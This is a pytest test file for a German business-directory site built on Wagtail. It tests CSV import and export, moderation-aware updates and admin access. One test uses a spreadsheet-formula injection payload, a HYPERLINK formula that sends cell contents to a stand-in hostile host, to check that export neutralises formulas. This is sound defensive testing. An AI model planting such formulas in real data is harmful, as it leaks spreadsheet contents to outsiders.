"""CSV import and export: the service, the commands and the admin views."""

import csv
import io
import re

import pytest

from django.core.management import CommandError, call_command

from wagtail.models import Revision

from directory.exporting import export_businesses
from directory.importing import COLUMNS, import_businesses
from directory.models import BusinessPage, Category

from ..admin_access import assert_refused
from .factories import (
    BusinessPageFactory,
    CategoryFactory,
    DistrictFactory,
    LanguageFactory,
    coordinator,
    german,  # noqa: F401  (fixture)
    make_directory,
    shopkeeper,
)
from .test_moderation import edit_data

pytestmark = pytest.mark.usefixtures("german")

HEADER = ",".join(COLUMNS)
EXPORT_HEADER = "\ufeff" + ";".join(COLUMNS)  # for a German spreadsheet
GOOD_ROWS = [
    "demo-1,Salon Lale,friseur,hochfeld,Wanheimer Straße,112,47053,Duisburg,51.419700,6.758600,"
    '0203 1234,info@lale.example,lale.example,"Damen- und Herrenschnitt.\n\nOhne <b>Termin</b>!",'
    "de;tr,Mo-Fr 09:00-18:00; Sa 10:00-14:00,Haarschnitt;Bart,yes",
    ",Fırın Anadolu,Bäckerei,Marxloh,Weseler Straße,78,47169,,,,,,,,tr,,,",
]


def csv_text(*rows):
    return "\n".join([HEADER, *rows]) + "\n"


@pytest.fixture
def reference_data(home_page):
    make_directory(home_page)
    CategoryFactory(slug="friseur", name="Friseur")
    CategoryFactory(slug="baeckerei", name="Bäckerei")
    DistrictFactory(slug="hochfeld", name="Hochfeld")
    DistrictFactory(slug="marxloh", name="Marxloh")
    LanguageFactory()
    LanguageFactory(code="de", native_name="Deutsch", german_name="Deutsch")


@pytest.mark.django_db
def test_valid_file_is_imported_and_published(reference_data):
    result = import_businesses(csv_text(*GOOD_ROWS).encode())
    assert result.errors == []
    assert (result.created, result.updated, result.applied) == (2, 0, True)
    salon = BusinessPage.objects.get(external_id="demo-1")
    assert salon.live and not salon.has_unpublished_changes
    assert salon.category.slug == "friseur"
    assert salon.district.slug == "hochfeld"
    assert salon.website == "https://lale.example"
    assert salon.wheelchair == "yes"
    assert sorted(salon.languages.values_list("code", flat=True)) == ["de", "tr"]
    assert sorted(tag.name for tag in salon.tags.all()) == ["Bart", "Haarschnitt"]
    # plain text, escaped into paragraphs
    assert salon.description == (
        "<p>Damen- und Herrenschnitt.</p><p>Ohne &lt;b&gt;Termin&lt;/b&gt;!</p>"
    )
    firin = BusinessPage.objects.get(title="Fırın Anadolu")
    assert firin.category.slug == "baeckerei"  # matched by name
    assert firin.city == "Duisburg"  # taken from the district
    assert firin.latitude is None  # GEOCODER=none in tests: no coordinates, no failure
    assert firin.get_parent().specific_class.__name__ == "DirectoryIndexPage"


@pytest.mark.django_db
def test_bad_rows_are_reported_and_nothing_is_imported(reference_data):
    rows = [
        GOOD_ROWS[0],
        ",,friseur,hochfeld,Heerstraße,1,47053,,,,,,,,,,,",
        ",Laden X,unbekannt,nirgendwo,Heerstraße,2,47053,,95,6.7,,kein-mail,,,"
        "xx,Montags,,vielleicht",
    ]
    result = import_businesses(csv_text(*rows))
    assert not result.applied
    assert BusinessPage.objects.count() == 0
    by_line = {}
    for error in result.errors:
        by_line.setdefault(error.line, []).append(error.message)
    # Spreadsheet rows: the first record spans lines 2-4 of the file (quoted line breaks).
    assert set(by_line) == {3, 4}
    assert any("name" in message for message in by_line[3])
    text = " ".join(by_line[4])
    assert [(proposal.name, proposal.lines) for proposal in result.proposals] == [
        ("unbekannt", [4])
    ]
    for expected in (
        "Unbekannter Stadtteil",
        "Breitengrad",
        "E-Mail",
        "Unbekannte Sprache",
        "Öffnungszeiten",
        "wheelchair",
    ):
        assert expected in text
    assert str(result.errors[0]).startswith("Zeile 3:")


@pytest.mark.django_db
def test_skip_invalid_imports_the_good_rows(reference_data):
    rows = [GOOD_ROWS[1], ",Ohne Straße,friseur,hochfeld,,,47053,,,,,,,,,,,"]
    result = import_businesses(csv_text(*rows), skip_invalid=True)
    assert result.applied and result.created == 1 and result.skipped == 1
    assert list(BusinessPage.objects.values_list("title", flat=True)) == ["Fırın Anadolu"]


@pytest.mark.django_db
def test_dry_run_saves_nothing(reference_data):
    result = import_businesses(csv_text(*GOOD_ROWS), dry_run=True)
    assert result.errors == [] and not result.applied
    assert [row.values["name"] for row in result.rows] == ["Salon Lale", "Fırın Anadolu"]
    assert BusinessPage.objects.count() == 0


@pytest.mark.django_db
def test_unknown_category_created_on_request(reference_data):
    row = ",Kiosk Eck,Kiosk,hochfeld,Heerstraße,5,47053,,,,,,,,,,,"
    waiting = import_businesses(csv_text(row))
    assert not waiting.applied and [p.name for p in waiting.proposals] == ["Kiosk"]
    assert not Category.objects.filter(slug="kiosk").exists()
    result = import_businesses(csv_text(row), create_categories=True)
    assert result.applied and result.new_categories == ["Kiosk"]
    assert BusinessPage.objects.get().category == Category.objects.get(slug="kiosk")


@pytest.mark.django_db
def test_reimport_updates_instead_of_duplicating(reference_data):
    import_businesses(csv_text(*GOOD_ROWS))
    changed = GOOD_ROWS[0].replace("0203 1234", "0203 9999")
    # second row has no external_id: matched by name + address
    result = import_businesses(csv_text(changed, GOOD_ROWS[1]))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    assert BusinessPage.objects.count() == 2
    assert BusinessPage.objects.get(external_id="demo-1").phone == "+49 203 9999"


@pytest.mark.django_db
def test_export_import_round_trip(reference_data):
    import_businesses(csv_text(*GOOD_ROWS))
    first = io.StringIO()
    export_businesses(first)
    assert first.getvalue().splitlines()[0] == EXPORT_HEADER
    revisions = Revision.objects.count()
    result = import_businesses(first.getvalue())
    assert (result.created, result.updated, result.unchanged, result.errors) == (0, 0, 2, [])
    assert Revision.objects.count() == revisions
    second = io.StringIO()
    export_businesses(second)
    assert second.getvalue() == first.getvalue()
    # into an empty directory: the same businesses again
    BusinessPage.objects.all().delete()
    result = import_businesses(first.getvalue())
    assert result.created == 2
    third = io.StringIO()
    export_businesses(third)
    assert third.getvalue() == first.getvalue()


@pytest.mark.django_db
def test_wrong_header_and_encoding_are_reported(reference_data):
    assert "Es fehlen die Spalten" in str(import_businesses("name;street\nA;B\n").errors[0])
    assert "UTF-8" in str(import_businesses("name\n".encode("utf-16")).errors[0])


@pytest.mark.django_db
def test_commands(reference_data, tmp_path):
    good = tmp_path / "good.csv"
    good.write_text(csv_text(*GOOD_ROWS), encoding="utf-8")
    out = io.StringIO()
    call_command("import_businesses", str(good), "--dry-run", stdout=out)
    assert "Probelauf, nichts gespeichert. Ein Import würde 2 neu anlegen" in out.getvalue()
    assert BusinessPage.objects.count() == 0
    call_command("import_businesses", str(good), stdout=out)
    assert BusinessPage.objects.count() == 2

    bad = tmp_path / "bad.csv"
    bad.write_text(csv_text(",X,friseur,hochfeld,,1,47053,,,,,,,,,,,"), encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_businesses", str(bad), stdout=out, stderr=err)
    assert "Zeile 2" in err.getvalue()

    stdout = io.StringIO()
    call_command("export_businesses", stdout=stdout)
    assert stdout.getvalue().splitlines()[0] == EXPORT_HEADER
    assert "Salon Lale" in stdout.getvalue()
    target = tmp_path / "export.csv"
    call_command("export_businesses", str(target), stderr=io.StringIO())
    assert target.read_bytes().decode("utf-8") == stdout.getvalue()


@pytest.mark.django_db
def test_admin_import_preview_and_export(client, reference_data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    BusinessPageFactory(parent=make_directory(None), title="Schon da")
    client.force_login(coordinator())
    upload = SimpleUploadedFile("g.csv", csv_text(*GOOD_ROWS).encode(), "text/csv")
    response = client.post("/admin/verzeichnis/import/", {"file": upload, "action": "check"})
    assert response.status_code == 200
    assert "Salon Lale" in response.text and "neu anlegen" in response.text
    assert BusinessPage.objects.count() == 1
    upload = SimpleUploadedFile("g.csv", csv_text(*GOOD_ROWS).encode(), "text/csv")
    response = client.post("/admin/verzeichnis/import/", {"file": upload, "action": "import"})
    assert BusinessPage.objects.count() == 3
    export = client.get("/admin/verzeichnis/export/")
    assert export["Content-Type"].startswith("text/csv")
    assert "Schon da" in export.content.decode()


@pytest.mark.django_db
def test_admin_tools_are_for_the_coordination_team_only(client, reference_data):
    from directory.owners import grant_ownership

    from .factories import UserFactory

    page = BusinessPageFactory(parent=make_directory(None))
    owner = UserFactory()
    grant_ownership(owner, page)
    client.force_login(owner)
    for url in (
        "/admin/verzeichnis/import/",
        "/admin/verzeichnis/export/",
        "/admin/verzeichnis/einladen/",
    ):
        assert_refused(client.get(url))


HYPERLINK = '=HYPERLINK("https://boese.example/?d="&A1,"Hier klicken")'
EXPORTED_FIELDS = ("title", "street", "house_number", "phone", "description", "external_id")


def exported_rows():
    out = io.StringIO()
    export_businesses(out)
    text = out.getvalue()
    return text, list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.mark.django_db
def test_export_neutralises_spreadsheet_formulas_and_round_trips(reference_data):
    BusinessPageFactory(
        parent=make_directory(None),
        title=HYPERLINK,
        street="+49 Wanheimer Straße",
        house_number="@1",
        phone="+49 203 1234",
        description="<p>-10 % auf alles</p><p>=SUMME(A1:A9)</p>",
        external_id="'=schon-mit-apostroph",
        category=Category.objects.get(slug="friseur"),
    )
    original = BusinessPage.objects.values(*EXPORTED_FIELDS).get()

    text, [row] = exported_rows()
    assert row["name"] == "'" + HYPERLINK
    assert row["street"] == "'+49 Wanheimer Straße"
    assert row["house_number"] == "'@1"
    assert row["phone"] == "'+49 203 1234"
    assert row["description"] == "'-10 % auf alles\n\n=SUMME(A1:A9)"
    # a value that itself starts with ' before a formula character gets one more
    assert row["external_id"] == "''=schon-mit-apostroph"
    assert row["postcode"] == "47053" and row["latitude"] == "51.420000"  # left alone
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    result = import_businesses(text)
    assert (result.created, result.updated, result.unchanged, result.errors) == (0, 0, 1, [])
    assert BusinessPage.objects.values(*EXPORTED_FIELDS).get() == original
    assert exported_rows()[0] == text
    # into an empty directory: the same business again
    BusinessPage.objects.all().delete()
    assert import_businesses(text).created == 1
    assert BusinessPage.objects.values(*EXPORTED_FIELDS).get() == original
    assert exported_rows()[0] == text


@pytest.mark.django_db
def test_import_only_strips_the_quote_before_a_formula_character(reference_data):
    row = ",'Salon Lale,friseur,hochfeld,'=Straße,'1,47053,,,,'+49 203 1234,,,,,,,"
    assert import_businesses(csv_text(row)).errors == []
    page = BusinessPage.objects.get()
    assert (page.title, page.street, page.house_number, page.phone) == (
        "'Salon Lale",
        "=Straße",
        "'1",
        "+49 203 1234",
    )


@pytest.fixture
def salon(reference_data):
    """The business of GOOD_ROWS[0], live, with the phone number 0203 1111."""
    return BusinessPageFactory(
        parent=make_directory(None),
        title="Salon Lale",
        external_id="demo-1",
        category=Category.objects.get(slug="friseur"),
        tagline="Alt",
        phone="0203 1111",
    )


def submit_change(client, salon):
    """The shopkeeper submits a new phone number for moderation; returns the draft's id."""
    client.force_login(shopkeeper(salon))
    response = client.post(
        f"/admin/pages/{salon.pk}/edit/",
        edit_data(salon, tagline="Neu", phone="0203 2222", **{"action-submit": "1"}),
    )
    assert response.status_code == 302, response.content[:2000]
    salon.refresh_from_db()
    return salon.latest_revision_id


@pytest.mark.django_db
def test_import_skips_a_profile_waiting_for_moderation(client, salon):
    draft_id = submit_change(client, salon)
    assert salon.current_workflow_state.status == "in_progress"

    preview = import_businesses(csv_text(*GOOD_ROWS), dry_run=True)
    assert preview.rows[0].action == "überspringen (Änderung wartet auf Freigabe)"
    assert [str(note) for note in preview.notes] == [  # the row spans lines 2-4
        "Zeile 2: „Salon Lale“ nicht aktualisiert: "
        "Eine Änderung wartet auf Freigabe durch das Koordinationsteam."
    ]

    result = import_businesses(csv_text(*GOOD_ROWS))
    assert result.applied and result.errors == []  # the rest of the file is imported
    assert (result.created, result.updated, result.held_back, result.skipped) == (1, 0, 1, 1)
    assert [note.line for note in result.notes] == [2]
    assert BusinessPage.objects.filter(title="Fırın Anadolu").exists()
    salon.refresh_from_db()
    assert (salon.phone, salon.tagline) == ("0203 1111", "Alt")  # live page unchanged
    assert salon.latest_revision_id == draft_id
    assert salon.get_latest_revision_as_object().phone == "0203 2222"
    assert salon.current_workflow_state.status == "in_progress"

    result = import_businesses(csv_text(*GOOD_ROWS), overwrite_pending=True)
    # The bakery was imported above and is unchanged: only the salon is written.
    assert (result.created, result.updated, result.unchanged, result.held_back) == (0, 1, 1, 0)
    assert "trotz wartender Änderung aktualisiert" in str(result.notes[0])
    salon.refresh_from_db()
    assert salon.phone == "+49 203 1234" and salon.live and not salon.has_unpublished_changes
    assert salon.latest_revision_id != draft_id
    # the shopkeeper's change stays in the history; publishing ended its workflow
    draft = Revision.objects.get(pk=draft_id)
    assert draft.object_id == str(salon.pk)
    assert draft.as_object().phone == "0203 2222"
    assert salon.current_workflow_state is None


@pytest.mark.django_db
def test_command_skips_an_unpublished_draft_unless_told(salon, tmp_path):
    salon.phone = "0203 3333"
    draft = salon.save_revision()
    file = tmp_path / "g.csv"
    file.write_text(csv_text(*GOOD_ROWS), encoding="utf-8")

    out, err = io.StringIO(), io.StringIO()
    call_command("import_businesses", str(file), stdout=out, stderr=err)
    assert "Zeile 2: „Salon Lale“ nicht aktualisiert" in err.getvalue()
    assert "Entwurf" in err.getvalue() and "--overwrite-pending" in err.getvalue()
    assert "1 neu, 0 geändert, 0 unverändert, 1 übersprungen" in out.getvalue()
    salon.refresh_from_db()
    assert salon.phone == "0203 1111" and salon.latest_revision_id == draft.pk

    call_command(
        "import_businesses", str(file), "--overwrite-pending", stdout=out, stderr=io.StringIO()
    )
    salon.refresh_from_db()
    assert salon.phone == "+49 203 1234" and not salon.has_unpublished_changes
    assert draft.pk in set(salon.revisions.values_list("pk", flat=True))


def admin_import(client, **options):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("g.csv", csv_text(*GOOD_ROWS).encode(), "text/csv")
    action = "check" if options.pop("dry_run", False) else "import"
    data = {"file": upload, "action": action}
    data.update({name: "on" for name, on in options.items() if on})
    response = client.post("/admin/verzeichnis/import/", data)
    assert response.status_code == 200
    return response


@pytest.mark.django_db
def test_admin_import_reports_and_optionally_overwrites_a_waiting_change(client, salon):
    draft_id = submit_change(client, salon)
    note = (
        "Zeile 2: „Salon Lale“ nicht aktualisiert: "
        "Eine Änderung wartet auf Freigabe durch das Koordinationsteam."
    )

    client.force_login(coordinator())
    form = client.get("/admin/verzeichnis/import/").text
    checkbox = re.search(r'<input type="checkbox" name="overwrite_pending"[^>]*>', form)[0]
    assert "checked" not in checkbox
    assert 'aria-describedby="id_overwrite_pending-helptext"' in checkbox
    assert re.search(
        r'<label[^>]*for="id_overwrite_pending"[^>]*>\s*'
        r"Geschäfte mit wartender Änderung trotzdem aktualisieren",
        form,
    )
    helptext = re.search(r'id="id_overwrite_pending-helptext"[^>]*>(.*?)</', form, re.S)[1]
    assert "Versionsverlauf" in helptext

    preview = admin_import(client, dry_run=True).text
    assert note in preview and "überspringen (Änderung wartet auf Freigabe)" in preview

    result = admin_import(client).text
    assert "Import abgeschlossen: 1 neu, 0 geändert, 0 unverändert, 1 übersprungen." in result
    assert note in result
    salon.refresh_from_db()
    assert (salon.phone, salon.tagline) == ("0203 1111", "Alt")  # live page unchanged
    assert salon.latest_revision_id == draft_id
    assert salon.current_workflow_state.status == "in_progress"

    result = admin_import(client, overwrite_pending=True).text
    assert "Import abgeschlossen: 0 neu, 1 geändert, 1 unverändert, 0 übersprungen." in result
    assert (
        "Zeile 2: „Salon Lale“ trotz wartender Änderung aktualisiert; "
        "der Entwurf bleibt im Versionsverlauf." in result
    )
    salon.refresh_from_db()
    assert salon.phone == "+49 203 1234" and salon.live and not salon.has_unpublished_changes
    assert Revision.objects.get(pk=draft_id).as_object().phone == "0203 2222"
    assert salon.current_workflow_state is None


@pytest.mark.django_db
def test_any_iso_language_code_is_known_by_its_native_name(reference_data):
    from directory.models import Language

    row = ",Pizzeria Roma,friseur,hochfeld,Heerstraße,3,47053,,,,,,,,it;vi;sr;tr,,,"
    dry = import_businesses(csv_text(row), dry_run=True)
    assert dry.errors == []
    assert not Language.objects.filter(code__in=["it", "vi", "sr"]).exists()
    result = import_businesses(csv_text(row))
    assert result.errors == [] and result.created == 1
    names = dict(Language.objects.values_list("code", "native_name"))
    assert (names["it"], names["vi"], names["sr"]) == ("Italiano", "Tiếng Việt", "Српски")
    assert Language.objects.get(code="vi").german_name == "Vietnamesisch"
    page = BusinessPage.objects.get(title="Pizzeria Roma")
    assert sorted(page.languages.values_list("code", flat=True)) == ["it", "sr", "tr", "vi"]
    assert Language.objects.filter(code="tr").count() == 1  # the existing one is reused


@pytest.mark.django_db
def test_a_name_with_a_line_break_is_refused_with_its_line(reference_data):
    row = ',"Kiosk\nAm Markt",friseur,hochfeld,Markt,1,47053,Duisburg' + "," * 10
    result = import_businesses(csv_text(GOOD_ROWS[1], row).encode(), dry_run=True)
    # The quoted line break makes the record span lines 3 and 4 of the file; a
    # spreadsheet shows it as row 3.
    assert [(error.line, error.message) for error in result.errors] == [
        (3, "Der Name muss in eine Zeile passen (ohne Zeilenumbruch).")
    ]


@pytest.mark.django_db
def test_values_are_checked_by_the_business_page_fields_with_their_line(reference_data):
    # Limits and formats come from BusinessPage's own fields (max_length,
    # EmailField, choices, the opening hours validator), not from a copy.
    street_limit = BusinessPage._meta.get_field("street").max_length
    long_street = "S" * (street_limit + 1)
    row = f",Kiosk,friseur,hochfeld,{long_street},1,47053,Duisburg,,,,kein-mail,,,,,,"
    result = import_businesses(csv_text(GOOD_ROWS[1], row), dry_run=True)
    assert [error.line for error in result.errors] == [3, 3]
    street, email = (error.message for error in result.errors)
    assert street.startswith("„street“: ") and f"{street_limit} Zeichen" in street
    assert email.startswith("„email“: ") and "E-Mail-Adresse" in email
    at_the_limit = row.replace(long_street, "S" * street_limit).replace("kein-mail", "")
    assert import_businesses(csv_text(at_the_limit), dry_run=True).errors == []


@pytest.mark.django_db
def test_school_holidays_in_the_hours_are_refused_with_a_clear_message(reference_data):
    row = GOOD_ROWS[0].replace("Sa 10:00-14:00,", "Sa 10:00-14:00; SH off,")
    result = import_businesses(csv_text(row))
    assert not result.applied
    assert BusinessPage.objects.count() == 0
    assert any("Schulferien (SH)" in error.message for error in result.errors)
